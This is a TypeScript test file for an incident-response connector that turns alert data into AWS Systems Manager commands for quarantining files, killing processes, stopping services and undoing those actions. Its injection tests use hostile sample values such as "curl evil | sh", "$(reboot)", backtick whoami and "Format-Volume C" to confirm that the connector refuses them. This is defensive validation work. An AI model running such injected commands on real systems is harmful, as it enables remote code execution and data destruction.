// The ssm connector's parameters: derived from the action's target, checked against the
// documents' patterns (alert data never reaches a script unchecked), undo from the record only.
import type { Action, Target } from '../../../functions/core/model.js';
import {
  checkSsmParameters,
  managedNodeOf,
  ssmExecuteParameters,
  ssmUndoParameters,
} from '../../../functions/core/ssm-commands.js';
import { ConnectorPermanentError } from '../../../functions/core/workflow-errors.js';
import { makeAction } from '../../fixtures/actions.js';

const NODE = 'i-0123456789abcdef0';
const SHA256 = 'a'.repeat(64);

const actionOn = (type: Action['type'], target: Partial<Target>, overrides: Partial<Action> = {}) =>
  makeAction({
    type,
    target: { kind: 'file', id: 'x', displayName: 'x', deviceId: NODE, ...target },
    ...overrides,
  });

const refusal = (run: () => unknown): Error => {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(ConnectorPermanentError);
    return error as Error;
  }
  throw new Error('expected a refusal');
};

describe('the managed node', () => {
  it.each(['i-0123456789abcdef0', 'i-01234567', 'mi-0123456789abcdef0'])(
    'is the device %s',
    (deviceId) => {
      expect(managedNodeOf(actionOn('quarantineFile', { deviceId }))).toBe(deviceId);
    },
  );

  it.each(['LAPTOP-7', 'i-xyz', 'mi-0123', undefined])('refuses the device %s', (deviceId) => {
    expect(refusal(() => managedNodeOf(actionOn('quarantineFile', { deviceId }))).message).toMatch(
      /not a Systems Manager managed node/,
    );
  });
});

describe('execute parameters', () => {
  it('quarantines a file by its path and the hash the alert gave', () => {
    const action = actionOn('quarantineFile', { id: SHA256, path: '/tmp/x.bin', sha256: SHA256 });

    expect(ssmExecuteParameters(action, 'Linux')).toEqual({
      operation: 'execute',
      actionId: action.id,
      path: '/tmp/x.bin',
      sha256: SHA256,
    });
  });

  it('takes a file id that is a path as the path, with no hash to compare', () => {
    const action = actionOn('quarantineFile', { id: 'C:\\Temp\\drop.exe' });

    expect(ssmExecuteParameters(action, 'Windows')).toMatchObject({
      path: 'C:\\Temp\\drop.exe',
      sha256: '',
    });
  });

  it('kills a process by pid, start time and image path together', () => {
    const action = actionOn('killProcess', {
      kind: 'process',
      id: '4242@2026-11-30T08:15:02.000Z',
      path: '/usr/bin/xmrig',
    });

    expect(ssmExecuteParameters(action, 'Linux')).toEqual({
      operation: 'execute',
      actionId: action.id,
      pid: '4242',
      startTime: '2026-11-30T08:15:02.000Z',
      path: '/usr/bin/xmrig',
    });
  });

  it.each([
    [{ id: '4242@unknown-start', path: '/usr/bin/xmrig' }, /no process start time/],
    [{ id: '4242@2026-11-30T08:15:02Z' }, /no process image path/],
    [{ id: 'miner', path: '/usr/bin/xmrig' }, /no process id/],
  ])('refuses to kill a process known only partly: %j', (target, reason) => {
    expect(
      refusal(() =>
        ssmExecuteParameters(actionOn('killProcess', { kind: 'process', ...target }), 'Linux'),
      ).message,
    ).toMatch(reason);
  });

  it('names services, drivers, registry keys and tasks by the target id', () => {
    expect(
      ssmExecuteParameters(actionOn('stopService', { id: 'miner.service' }), 'Linux'),
    ).toMatchObject({ serviceName: 'miner.service' });
    expect(
      ssmExecuteParameters(actionOn('disableDriver', { id: 'evil_rk' }), 'Linux'),
    ).toMatchObject({ driverName: 'evil_rk' });
    expect(
      ssmExecuteParameters(
        actionOn('removeRegistryKey', { id: 'HKLM\\Software\\Run\\x' }),
        'Windows',
      ),
    ).toMatchObject({ keyPath: 'HKLM\\Software\\Run\\x' });
    expect(
      ssmExecuteParameters(actionOn('removeScheduledTask', { id: '\\Updater' }), 'Windows'),
    ).toMatchObject({ taskName: '\\Updater' });
  });

  it('refuses a registry key on a Linux node', () => {
    expect(
      refusal(() =>
        ssmExecuteParameters(actionOn('removeRegistryKey', { id: 'HKLM\\Software\\x' }), 'Linux'),
      ).message,
    ).toMatch(/Windows nodes only/);
  });

  it.each([
    ['quarantineFile', { path: "/tmp/a'; curl evil | sh; '" }],
    ['quarantineFile', { path: '/tmp/$(reboot)' }],
    ['stopService', { id: 'sshd; reboot' }],
    ['stopService', { id: '--now' }],
    ['removeScheduledTask', { id: 'task`whoami`' }],
    ['removeRegistryKey', { id: "HKLM\\x'; Format-Volume C" }],
    ['killProcess', { kind: 'process', id: '1@2026-11-30T08:15:02Z', path: '/bin/sh\nreboot' }],
  ] as [Action['type'], Partial<Target>][])(
    'refuses alert data that could inject a command: %s %j',
    (type, target) => {
      expect(
        refusal(() => ssmExecuteParameters(actionOn(type, target), 'Windows')).message,
      ).toMatch(/not of the allowed form/);
    },
  );

  it('refuses action types the connector has no document for', () => {
    expect(
      refusal(() => ssmExecuteParameters(actionOn('isolateDevice', {}), 'Linux')).message,
    ).toMatch(/ssm connector does not handle isolateDevice/);
  });
});

describe('undo parameters', () => {
  const completed = (type: Action['type'], record: unknown, target: Partial<Target> = {}) =>
    actionOn(type, target, {
      status: 'Completed',
      result: {
        outcome: 'Done',
        detail: `Some output\n${JSON.stringify(record)}`,
        at: '2026-11-30T08:20:00.000Z',
      },
    });

  it('restores a file to the recorded path with the recorded hash, on the recorded platform', () => {
    const action = completed(
      'quarantineFile',
      { path: '/tmp/original.bin', sha256: SHA256, platform: 'Linux' },
      { path: '/tmp/what-the-alert-said.bin' },
    );

    expect(ssmUndoParameters(action)).toEqual({
      platform: 'Linux',
      parameters: {
        operation: 'undo',
        actionId: action.id,
        path: '/tmp/original.bin',
        sha256: SHA256,
      },
    });
  });

  it('gives a service back the recorded start type and running state', () => {
    const action = completed('stopService', {
      serviceName: 'spooler',
      startType: 'Automatic',
      wasRunning: 'true',
      platform: 'Windows',
    });

    expect(ssmUndoParameters(action).parameters).toEqual({
      operation: 'undo',
      actionId: action.id,
      serviceName: 'spooler',
      startType: 'Automatic',
      wasRunning: 'true',
    });
  });

  it('refuses to undo without a record of what was changed', () => {
    const action = actionOn(
      'quarantineFile',
      {},
      {
        result: { outcome: 'FileQuarantined', detail: 'moved it', at: '2026-11-30T08:20:00.000Z' },
      },
    );

    expect(refusal(() => ssmUndoParameters(action)).message).toMatch(
      /records no change to reverse/,
    );
  });

  it("checks a recorded value like an alert's: a tampered record cannot inject either", () => {
    const action = completed('quarantineFile', {
      path: '/tmp/x; reboot',
      sha256: SHA256,
      platform: 'Linux',
    });

    expect(refusal(() => ssmUndoParameters(action)).message).toMatch(/not of the allowed form/);
  });

  it('refuses to undo a killed process', () => {
    expect(
      refusal(() => ssmUndoParameters(completed('killProcess', { platform: 'Linux' }))).message,
    ).toMatch(/cannot be undone/);
  });
});

it('names the parameter that does not match its pattern', () => {
  expect(refusal(() => checkSsmParameters({ pid: '0' })).message).toMatch(
    /^Refused to send pid "0" to a node/,
  );
});
